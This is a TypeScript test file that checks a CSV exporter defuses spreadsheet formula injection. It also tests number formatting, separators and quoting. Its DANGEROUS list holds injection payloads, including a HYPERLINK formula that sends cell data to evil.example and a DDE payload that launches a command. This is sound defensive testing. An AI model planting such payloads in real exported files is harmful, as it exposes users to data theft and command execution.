/** The one CSV writer: formula starters neutralised in text cells, numbers kept as numbers, quoting. */
import { describe, expect, it } from 'vitest';
import { csvDecimal, csvFile, csvNumber, csvSeparator, neutralise } from '../../../electron/core/export/csv';
import { parseCsv, runsAsFormula } from '../../support/csv';

const DANGEROUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t',
  '  =1+1',
  '＝1+1',
  '＠SUM(1)',
  '-',
];
const HARMLESS = ['plain', 'ООО «Ромашка»', 'a=b', '1+1', 'x@y.ru', "it's", ''];

describe('CSV writer', () => {
  it("the language decides the separators: ';' and a decimal comma in Russian, ',' and a point in English", () => {
    expect(csvSeparator('ru')).toBe(';');
    expect(csvSeparator('en')).toBe(',');
    expect(csvDecimal('-1234.50', 'ru').csvNumber).toBe('-1234,50');
    expect(csvDecimal('-1234.50', 'en').csvNumber).toBe('-1234.50');
    expect(csvFile([['a', 'b', 1.5]], { lang: 'ru' }).toString('utf8')).toBe('\uFEFFa;b;1,5\r\n');
    expect(csvFile([['a', 'b', 1.5]], { lang: 'en' }).toString('utf8')).toBe('\uFEFFa,b,1.5\r\n');
  });

  for (const [lang, sep] of [['en', ','], ['ru', ';']] as const) {
    it(`text cells that would run as formulas are neutralised, read back cell by cell ('${sep}')`, () => {
      const rows = [['text', 'n'], ...[...DANGEROUS, ...HARMLESS].map((s, i) => [s, i])];
      const back = parseCsv(csvFile(rows, { lang }), sep);
      expect(back).toHaveLength(rows.length);
      for (let i = 1; i < rows.length; i++) {
        const original = rows[i]![0] as string;
        const cell = back[i]![0]!;
        expect(runsAsFormula(cell), JSON.stringify(original)).toBe(false);
        expect(cell, JSON.stringify(original)).toBe(DANGEROUS.includes(original) ? `'${original}` : original);
        expect(back[i]![1]).toBe(String(i - 1));
      }
    });
  }

  it('numbers stay numbers, negative ones too; a "number" carrying anything else is text', () => {
    const back = parseCsv(
      csvFile([[-5, 12.5, csvNumber('-1234,50'), csvNumber('-0.01'), csvNumber('=1+1'), csvNumber('-1+1'), Number.NaN, null]], { lang: 'ru' }),
      ';',
    );
    expect(back[0]).toEqual(['-5', '12,5', '-1234,50', '-0.01', "'=1+1", "'-1+1", '', '']);
  });

  it('quotes separators, quotes and line breaks; BOM and CRLF', () => {
    const file = csvFile([['a,b', 'say "hi"', 'two\nlines', 'semi;colon']], { lang: 'en' });
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.toString('utf8').endsWith('\r\n')).toBe(true);
    expect(parseCsv(file)).toEqual([['a,b', 'say "hi"', 'two\nlines', 'semi;colon']]);
    expect(parseCsv(csvFile([['semi;colon', 'a,b']], { lang: 'ru' }), ';')).toEqual([['semi;colon', 'a,b']]);
  });

  it('neutralise leaves ordinary text alone', () => {
    for (const s of HARMLESS) expect(neutralise(s)).toBe(s);
  });
});
